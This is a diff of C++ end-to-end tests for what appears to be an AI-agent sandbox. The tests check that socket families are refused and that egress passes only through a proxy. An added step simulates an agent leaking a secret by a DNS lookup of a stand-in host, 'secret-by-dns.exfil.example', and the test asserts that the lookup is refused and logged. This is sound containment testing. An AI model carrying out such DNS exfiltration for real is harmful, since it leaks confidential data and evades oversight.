@@ -696,7 +696,10 @@ TEST_CASE("a deployed agent finds every road out of its sandbox closed", "[e2e]"
       // Landlock refuses every other port, and nothing outside is in that namespace anyway.
       {"tcp", {EACCES, ECONNREFUSED}}, {"tcp6", {EACCES, ECONNREFUSED, ENETUNREACH, EADDRNOTAVAIL}}, {"mptcp", {EPERM}},
       {"mptcp6", {EPERM}}, {"swtpm", {EACCES, ECONNREFUSED}},
-      {"swtpm-mptcp", {EPERM}}, {"udp", {EPERM}}, {"udp6", {EPERM}}, {"ping", {EPERM}}, {"raw-icmp", {EPERM}},
+      // UDP exists for the DNS stub in that namespace: what is sent reaches its loopback alone,
+      // and the port-unreachable comes back (or nothing does, within a second).
+      {"swtpm-mptcp", {EPERM}}, {"udp", {ECONNREFUSED, EAGAIN}}, {"udp6", {ECONNREFUSED, EAGAIN, ENETUNREACH, EADDRNOTAVAIL}},
+      {"ping", {EPERM}}, {"raw-icmp", {EPERM}},
       {"ipproto-raw", {EPERM}}, {"packet", {EPERM}}, {"netlink", {EPERM}},
       // Outside the allowlist nothing exists: the mount namespace shows no such file.
       {"unix-stream-outside", {ENOENT}}, {"unix-dgram-outside", {ENOENT}}, {"read-outside", {ENOENT}},
@@ -1058,6 +1061,7 @@ TEST_CASE("egress leaves an agent only through the proxy, as the bundle decides"
       json::object{{"op", "egress"}, {"mode", "direct"}, {"host", "127.0.0.1"}, {"port", https.port}},    // 7
       step("everything", "get-env", {}),                                   // 8: confidential data
       connect("localhost", https.port),                                    // 9: now tainted
+      json::object{{"op", "egress"}, {"mode", "resolve"}, {"host", "secret-by-dns.exfil.example"}},  // 10
   };
   ok({"agent", "deploy", n.agent("egresser", steps).string()}, n.env());
   REQUIRE(eventually([&] { return n.agent_state("egresser", "stopped"); }, 60));
@@ -1089,6 +1093,10 @@ TEST_CASE("egress leaves an agent only through the proxy, as the bundle decides"
   CHECK(at(8).at("isError") == false);
   refused(9, "flow_denied");
   CHECK_FALSE(other.received());
+  // DNS from inside: the stub answers REFUSED at once; getaddrinfo with the host's resolv.conf
+  // fails too (here a resolver off loopback: no route in the namespace), never resolving.
+  CHECK(at(10).at("stub") == "EREFUSED");
+  CHECK(at(10).at("lookup") != "resolved");
 
   // The audit log holds each decision with its reason; the proxy never resolved the name no
   // rule allows (no address on its record).
@@ -1113,11 +1121,15 @@ TEST_CASE("egress leaves an agent only through the proxy, as the bundle decides"
   const json::object* tainted = record("localhost", https.port, "flow_denied");
   REQUIRE(tainted != nullptr);
   CHECK(tainted->at("rule") == "egresser-no-exfiltration");
+  const json::object* query = record("secret-by-dns.exfil.example", 53, "dns_refused");
+  REQUIRE(query != nullptr);
+  CHECK(query->at("method") == "DNS");
   // `outpost status` counts the refusals.
   const auto entry = n.agent_entry("egresser");
   INFO(json::serialize(entry));
   CHECK(entry.at("egress").at("refused").to_number<int64_t>() >= 7);
   CHECK(entry.at("egress").at("allowed").to_number<int64_t>() >= 1);
+  CHECK(entry.at("egress").at("dns_refused").to_number<int64_t>() >= 1);
   CHECK(n.daemon->stop(SIGTERM) == 0);
 }
 
